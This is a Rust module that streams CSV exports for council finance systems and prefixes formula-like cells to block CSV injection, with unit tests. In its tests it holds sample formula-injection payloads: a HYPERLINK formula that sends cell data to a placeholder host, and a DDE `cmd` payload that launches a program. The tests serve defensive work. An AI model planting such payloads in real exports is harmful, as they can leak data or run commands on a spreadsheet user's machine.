//! CSV downloads for finance systems: one writer (the `csv` crate quotes what needs it),
//! sent with a file name so that browsers save it. Every cell passes through `neutralise`,
//! so that text one council typed can never run as a formula in another council's
//! spreadsheet (OWASP "CSV injection").

use crate::error::AppError;
use axum::body::{Body, Bytes};
use axum::http::header;
use axum::response::{IntoResponse, Response};
use futures_util::stream::{self, Stream, StreamExt};
use std::borrow::Cow;

/// Writes `header` and `rows` as CSV and sends them as `filename`.
pub fn download(
    filename: &str,
    header: &[&str],
    rows: impl IntoIterator<Item = Vec<String>>,
) -> Result<Response, AppError> {
    let body = write(header, rows)?;
    Ok((attachment(filename), body).into_response())
}

/// Sends `header`, then each page of rows as `pages` yields it: an export of any length
/// holds one page in memory. A page that fails ends the download early (the browser
/// reports it as failed), and the failure is logged.
pub fn stream<S>(filename: &str, header: &[&str], pages: S) -> Result<Response, AppError>
where
    S: Stream<Item = Result<Vec<Vec<String>>, AppError>> + Send + 'static,
{
    let head = Bytes::from(write(header, std::iter::empty())?);
    let rest = pages.map(|page| {
        page.and_then(|rows| encode(rows).map(Bytes::from)).map_err(|e| {
            tracing::error!(error = %e, "a CSV export stopped part way");
            std::io::Error::other("the export could not be completed")
        })
    });
    let body = Body::from_stream(stream::once(async { Ok::<_, std::io::Error>(head) }).chain(rest));
    Ok((attachment(filename), body).into_response())
}

fn attachment(filename: &str) -> [(header::HeaderName, String); 2] {
    [
        (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
        (
            header::CONTENT_DISPOSITION,
            format!("attachment; filename=\"{filename}\""),
        ),
    ]
}

/// The CSV bytes of `header` and `rows`, every cell neutralised.
pub fn write(header: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> Result<Vec<u8>, AppError> {
    let mut bytes = encode(std::iter::once(header.iter().map(|h| h.to_string()).collect()))?;
    bytes.extend(encode(rows)?);
    Ok(bytes)
}

/// Rows as CSV lines, every cell neutralised.
fn encode(rows: impl IntoIterator<Item = Vec<String>>) -> Result<Vec<u8>, AppError> {
    let mut w = csv::Writer::from_writer(Vec::new());
    let internal = |e: csv::Error| AppError::Internal(e.into());
    for row in rows {
        for cell in &row {
            w.write_field(neutralise(cell).as_bytes()).map_err(internal)?;
        }
        w.write_record(std::iter::empty::<&[u8]>()).map_err(internal)?;
    }
    w.into_inner().map_err(|e| AppError::Internal(anyhow::anyhow!("{e}")))
}

/// A cell as it may safely reach a spreadsheet: text that a spreadsheet would read as a
/// formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading
/// `'`, which spreadsheets show as text. Plain numbers such as `-1296.00` stay numbers.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// An optional sign, digits and at most one decimal point with digits after it.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = match unsigned.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (unsigned, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

/// Pence as pounds with two decimals and no symbol, as finance systems import them.
pub fn pounds(pence: i64) -> String {
    let sign = if pence < 0 { "-" } else { "" };
    format!("{sign}{}.{:02}", pence.unsigned_abs() / 100, pence.unsigned_abs() % 100)
}

#[cfg(test)]
mod tests {
    use super::{neutralise, pounds, write};

    #[test]
    fn pounds_are_plain_decimals() {
        assert_eq!(pounds(123_456), "1234.56");
        assert_eq!(pounds(-5), "-0.05");
        assert_eq!(pounds(0), "0.00");
        assert_eq!(pounds(i64::MIN), "-92233720368547758.08");
    }

    #[test]
    fn formulas_become_text() {
        for risky in [
            "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Click\")",
            "+SUM(A1:A9)",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "-",
            "+44 20 7946 0000",
            "-1296.00=A1",
        ] {
            assert_eq!(neutralise(risky), format!("'{risky}"), "{risky:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_untouched() {
        for safe in [
            "-1296.00",
            "1296.00",
            "+5",
            "-0.05",
            "7.5",
            "Leeds City Council",
            "BACS 4471",
            "",
            "a=b",
        ] {
            assert_eq!(neutralise(safe), safe, "{safe:?}");
        }
        for not_number in ["-1.", "-.5", "--1", "-1.2.3", "-1e5"] {
            assert_eq!(neutralise(not_number), format!("'{not_number}"), "{not_number:?}");
        }
    }

    #[test]
    fn every_written_cell_is_neutralised() {
        let bytes = write(
            &["reference", "amount"],
            [vec!["=cmd|' /C calc'!A0".to_string(), "-1296.00".to_string()]],
        )
        .unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(text, "reference,amount\n'=cmd|' /C calc'!A0,-1296.00\n");
    }
}
